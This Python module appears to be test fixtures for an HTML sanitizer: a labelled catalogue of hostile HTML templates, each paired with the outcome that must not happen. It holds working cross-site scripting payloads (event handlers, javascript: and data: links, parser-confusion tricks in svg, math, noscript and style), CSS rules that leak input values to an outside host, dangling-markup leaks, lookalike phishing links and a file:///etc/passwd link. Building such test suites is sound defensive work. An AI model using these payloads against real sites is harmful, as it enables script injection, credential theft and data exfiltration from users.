"""HTML that attacks: name, what must not happen, document with `{url}`, `{host}` and `{script}` to be filled in."""

_RUNS = "a script runs"
_ASKS = "a request"
_LEAVES = "the frame or the page goes elsewhere"
_TREE = "a script runs after a second reading"

_SCRIPTS = {
    "script": "<script>{script}</script>",
    "script-src": '<script src="{url}/x.js"></script><script type=module src="{url}/m.js"></script>',
    "script-nested": "<scr<script>ipt>{script}</scr</script>ipt><svg><script>{script}</script></svg>",
    "script-case": "<ScRiPt/x>{script}</sCrIpT ><script\n>{script}",
    "handler-image": '<img src=x onerror="{script}">',
    "handler-slash": '<svg/onload="{script}"><body/onload="{script}"><img/src=x/onerror="{script}">',
    "handler-many": (
        '<details open ontoggle="{script}"><video onloadstart="{script}" src=x></video><input autofocus '
        'onfocus="{script}"><marquee onstart="{script}">x</marquee><p onanimationstart="{script}" '
        'style="animation:a 1s">x</p><style>@keyframes a{}</style><object onerror="{script}" data=x>'
        "</object>"
    ),
    "handler-entity": '<img src=x on&#101;rror="{script}" OnErRoR="&#100;ocument.title=\'pwned\'">',
    "svg": (
        '<svg><a xlink:href="javascript:{script}"><text y=9>x</text></a><animate onbegin="{script}" '
        'attributeName=x dur=1s /><set attributeName=onmouseover to="{script}"/><foreignObject><img src=x '
        'onerror="{script}"/></foreignObject><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/>'
        "</svg>"
    ),
    "svg-animate-link": '<svg><a><animate attributeName=href values="javascript:{script}"/><text y=9>x',
    "math": (
        '<math href="javascript:{script}">x</math><math><maction actiontype="statusline#{url}">x</maction></math>'
    ),
    "object": (
        '<object data="data:text/html,<script>{script}</script>"></object><embed src="{url}/e"><applet '
        'code=x archive="{url}/a.jar"></applet><object type="text/html" data="{url}/o"><param name=src '
        "value=x>"
    ),
    "template": '<template shadowrootmode=open><img src=x onerror="{script}"></template>',
    "conditional": (
        '<!--[if gte IE 4]><script>{script}</script><![endif]--><!--[if mso]><v:fill src="{url}/v"><![endif]-->'
    ),
}
_LINKS = {
    "link-javascript": (
        '<a href="javascript:{script}">a</a><a href=" &#1;java&#10;script:{script}">b</a><a '
        'href="JaVaScRiPt&colon;{script}">c</a><area href="javascript&#58;{script}">'
    ),
    "link-data": (
        '<a href="data:text/html,<script>{script}</script>">a</a><a href="data:text/html;base64,PHNjcmlwdD4=">b</a>'
    ),
    "link-vbscript": '<a href="vbscript:msgbox(1)">a</a><a href="livescript:x">b</a><a href="blob:null/x">c</a>',
    "link-file": '<a href="file:///etc/passwd">a</a><a href="view-source:{url}">b</a><a href="about:blank">c</a>',
    "link-own": '<a href="/profiles">a</a><a href="?remote=1">b</a><a href="../releases/new">c</a>',
    "link-ping": '<a href="https://example.com/" ping="{url}/ping" attributionsrc="{url}/attribution">a</a>',
    "link-target": '<a href="{url}/top" target=_top>a</a><a href="{url}/parent" target=_parent rel=opener>b</a>',
    "link-lookalike": (
        '<a href="https://xn--80ak6aa92e.com/">https://apple.com/</a><a href="https://pаypal.com/">x</a><a '
        'href="https://example.com@{host}/">https://example.com</a><a href="//0x7f.1/">ip</a>'
    ),
}
_NAVIGATION = {
    "refresh": (
        '<meta http-equiv=refresh content="0;url={url}/refresh"><meta http-equiv=" REFRESH" content="0,{url}/r">'
    ),
    "base": '<base href="{url}/base/" target=_top><img src=a.png><a href=b>x</a>',
    "form": (
        '<form action="{url}/form" id=f><input name=p type=password><button formaction="{url}/button">Sign '
        'in</button><input type=image src="{url}/image" formaction="{url}/i"></form><button form=f>x'
        "</button>"
    ),
    "frame": (
        '<iframe src="{url}/iframe" srcdoc="<script>{script}</script>"></iframe><frameset><frame src="{url}/frame">'
    ),
    "frame-others": (
        '<portal src="{url}/p"></portal><fencedframe src="{url}/f"></fencedframe><noembed><embed src="{url}/e">'
    ),
    "policy": (
        '<meta http-equiv=Content-Security-Policy content="script-src *"><meta name=referrer '
        'content=unsafe-url><meta http-equiv=Set-Cookie content="a=b"><meta '
        "http-equiv=x-dns-prefetch-control content=on>"
    ),
    "overlay": (
        '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff"><a href="{url}/over">x</a></div>'
    ),
    "markup-unclosed": '<img src="{url}/dangling?<p>secret</p>',
    "names": "<form name=document><input name=body id=getElementById></form><a id=top name=location>x</a>",
}
_REQUESTS = {
    "images": (
        '<img src="{url}/a"><img src=//{host}/b><img src="\\\\{host}/c"><img src="ht\ntp://{host}/d"><img '
        'srcset="{url}/e 1x, {url}/f 2x"><picture><source srcset="{url}/g"><img></picture><body '
        'background="{url}/h"><table background="{url}/i">'
    ),
    "images-odd": (
        '<img src="http:{host}/a"><img src=" \t{url}/b"><img src="http:/\\{host}/c"><image src="{url}/d">'
        '<img lowsrc="{url}/e" dynsrc="{url}/f" longdesc="{url}/g"><input type=image src="{url}/h">'
        '<bgsound src="{url}/i">'
    ),
    "images-lazy": (
        '<img src="{url}/a" loading=lazy referrerpolicy=unsafe-url crossorigin=use-credentials attributionsrc>'
    ),
    "media": (
        '<video src="{url}/a" poster="{url}/b" autoplay><source src="{url}/c"><track src="{url}/d" '
        'default></video><audio src="{url}/e" autoplay></audio>'
    ),
    "link-element": (
        '<link rel=stylesheet href="{url}/a"><link rel=preload as=image href="{url}/b"><link rel=prefetch '
        'href="{url}/c"><link rel=dns-prefetch href="{url}/d"><link rel=preconnect href="{url}/e"><link '
        'rel=icon href="{url}/f"><link rel=manifest href="{url}/g"><link rel=modulepreload href="{url}/h">'
        '<link rel=preload imagesrcset="{url}/i 1x"><link rel="alternate stylesheet" title=x href="{url}'
        '/j"><link rel=prerender href="{url}/k">'
    ),
    "css-import": (
        '<style>@import "{url}/a";@import url({url}/b) screen;@\\69mport "{url}/c";@import/**/url("{url}/d")</style>'
    ),
    "css-url": (
        '<p style="background:url({url}/a)">x<p style="list-style-image:url( \'{url}/b\' )">x<p '
        'style="content:image-set(\'{url}/c\' 1x)">x<p style="background:-webkit-image-set(url({url}/d) '
        '1x)">x<p style="cursor:url({url}/e),auto">x<p style="background:u\\72l({url}/f)">x<p '
        'style="background:url(//{host}/g">x'
    ),
    "css-escaped": (
        "<style>p{background:\\000075\\72 l(\\68ttp://{host}/a)}i{background:ur/**/l({url}/b)}"
        'b{background:url("\\{url}/c")}u{background:url({url}/d</style><p>x<b>x</b><i>x</i><u>x</u>'
    ),
    "css-attribute": (
        '<style>input[value^="s"]{background:url({url}/s)}input:not([value=""]){background:url({url}/any)}'
        "a:visited{background:url({url}/seen)}</style><input value=secret><a href=http://example.com/>x</a>"
    ),
    "css-font": "<style>@font-face{font-family:f;src:url({url}/a);unicode-range:u+61}body{font-family:f}</style>aaa",
    "css-scheme": (
        "<style>@media (prefers-color-scheme:dark){body{background:url({url}/dark)}}@media "
        "(prefers-color-scheme:light){body{background:url({url}/light)}}@media "
        "print{body{background:url({url}/print)}}</style>x"
    ),
    "css-break": (
        '<style>p::before{content:"</style><img src=x onerror={script}>"}</style><p style="\'><img src={url}/a>">x'
    ),
    "css-script": '<p style="width:expression({script});behavior:url({url}/a);-moz-binding:url({url}/b)">x',
    "svg-paint": (
        '<svg><rect width=9 height=9 fill="url({url}/a#b)" filter="url({url}/c#d)" mask="url({url}/e#f)"/>'
        '<image href="{url}/g"/><image xlink:href="{url}/h"/><use href="{url}/i#j"/><feImage href="{url}'
        '/k"/><style>@import "{url}/l";</style><set attributeName=href to="{url}/m"/></svg>'
    ),
}
_READINGS = {
    "tree-noscript": '<noscript><p title="</noscript><img src=x onerror={script}>"></noscript>',
    "tree-math": (
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={script}&gt;">'
    ),
    "tree-form": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={script}>",
    "tree-svg-style": '<svg></p><style><a id="</style><img src=x onerror={script}>">',
    "tree-svg-style-entity": "<svg><style>&lt;/style&gt;&lt;img src=x onerror={script}&gt;</style></svg>",
    "tree-svg-title": "<svg><title><style><img src=x onerror={script}></style></title></svg>",
    "tree-svg-desc": '<svg><desc><noembed><img src=x title="</noembed><img src=x onerror={script}>">',
    "tree-xmp": (
        '<xmp><img title="</xmp><img src=x onerror={script}>"></xmp><listing>&lt;img onerror={script}&gt;</listing>'
    ),
    "tree-plaintext": '<svg><plaintext><img title="</plaintext><img src=x onerror={script}>"></svg><plaintext><script>',
    "tree-textarea": '<textarea><img title="</textarea><img src=x onerror={script}>"></textarea>',
    "tree-template": '<template><style></template><img title="</style><img src=x onerror={script}>"></template>',
    "tree-select-style": "<select><style></select><img src=x onerror={script}></style></select>",
    "tree-select": '<select><style></select><img title="</style><img src=x onerror={script}>"></select>',
    "tree-comment": (
        "<!--!><img src=x onerror={script}>--><!--><img src=x onerror={script}>--><? <img src=x onerror={script}> ?>"
    ),
    "tree-cdata": (
        '<svg><![CDATA[<img title="]]><img src=x onerror={script}>">]]></svg><![CDATA[<img src=x onerror={script}>]]>'
    ),
    "tree-annotation": (
        '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror={script}>">'
    ),
    "tree-table": '<table><svg><mtext><table></table><style><!--</style><img title="--><img src=x onerror={script}>">',
    "tree-namespace": (
        '<svg><foreignObject><math><mi><style><img title="</style><img src=x onerror={script}>"></mi></math>'
    ),
    "tree-nul": (
        '<s\x00cript>{script}</script><img src=x on\x00error={script}><a href="java\x00script:{script}">x</a>'
    ),
    "tree-attribute": "<p title=`\"><img src=x onerror={script}>`><a title='&quot;><img src=x onerror={script}>'>x</a>",
    "tree-deep": "<div>" * 600 + '<svg><style><img title="</style><img src=x onerror={script}>">',
}

HTML = (
    *((name, _RUNS, html) for name, html in _SCRIPTS.items()),
    *((name, _LEAVES, html) for name, html in (_LINKS | _NAVIGATION).items()),
    *((name, _ASKS, html) for name, html in _REQUESTS.items()),
    *((name, _TREE, html) for name, html in _READINGS.items()),
)
